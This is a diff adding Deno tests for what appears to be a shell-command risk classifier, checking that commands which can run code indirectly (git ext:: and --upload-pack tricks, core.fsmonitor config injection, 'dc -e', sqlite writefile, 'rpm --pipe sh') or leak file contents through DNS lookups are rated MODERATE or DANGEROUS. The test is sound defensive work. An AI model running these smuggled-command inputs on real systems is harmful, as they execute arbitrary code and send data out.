@@ -119,3 +119,84 @@ Deno.test("words that leave in the name that is asked for are no mere look", () 
   atLeast("MODERATE", ["dig $(cat notes.md).example.com", "ping -c 1 $(base64 x).example.com"]);
   atLeast("MODERATE", ["env", "set", "export -p", "pip download a", "direnv allow"]);
 });
+
+Deno.test("a program of a folder of work is not taken for the system's of that name", () => {
+  atLeast("MODERATE", [
+    "./ls",
+    "bin/ls -l",
+    "/tmp/ls",
+    "~/bin/ls",
+    "$HOME/ls",
+    "./git status",
+    "./ls --help",
+  ]);
+  exactly("SAFE", ["/bin/ls", "/usr/bin/git status", "/usr/local/bin/rg x"]);
+});
+
+Deno.test("what a settings file, an attribute or a remote may run is not only looked at", () => {
+  atLeast("MODERATE", [
+    "git show --textconv HEAD",
+    "git log -p --ext-diff",
+    "git cat-file --filters HEAD:a",
+    "git --git-dir=other status",
+    "git ls-remote origin",
+    "git remote show origin",
+    "git config --edit",
+    "git instaweb",
+    "make -n",
+    "cargo metadata",
+    "cargo tree",
+    "go env -w GOFLAGS=-mod=mod",
+    "terraform plan",
+    "direnv exec . ls",
+    "gdb ./a.out",
+    "ldd ./a.out",
+    "dc a",
+    "getent hosts words.example.com",
+  ]);
+  atLeast("DANGEROUS", [
+    "git ls-remote --upload-pack='touch a' .",
+    "git ls-remote ext::'sh -c id'",
+    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./e git status",
+    "GIT_DIR=other git status",
+    "systemd-run --user ls",
+    "gdb -p 1",
+    "strace -p 1",
+    "bash --rcfile x -ic ls",
+    "dc -e '!touch a'",
+    "sqlite3 a \"select writefile('x', 'y')\"",
+    "psql -c '\\! touch a'",
+    "rpm -qa --pipe sh",
+    "bat --pager=./e a",
+    "ss -K dst 192.0.2.1",
+  ]);
+  exactly("SAFE", [
+    "git log -p",
+    "git diff",
+    "git remote -v",
+    "ldd /usr/bin/ls",
+    "git config --get user.name",
+  ]);
+});
+
+Deno.test("sed and others that write by the way are seen to", () => {
+  atLeast("MODERATE", [
+    "sed -n 'w out' a",
+    "sed 's/a/b/w out' a",
+    "sed 's|a|b|gwout' a",
+    "sed '1wout' a",
+    "sed -n '/x/w out' a",
+    "sed -e p -e 'w out' a",
+    "sed --expression='w out' a",
+    "xmllint --output b a",
+    "shuf -o b a",
+    "file -C -m a",
+  ]);
+  exactly("SAFE", [
+    "sed -n '1,20p' a",
+    "sed 's/word/new words/g' a",
+    "sed -n '/window/p' a",
+    "sed 's#www#w3#' a",
+    "sed '/warn/d; s/a/b/' a",
+  ]);
+});
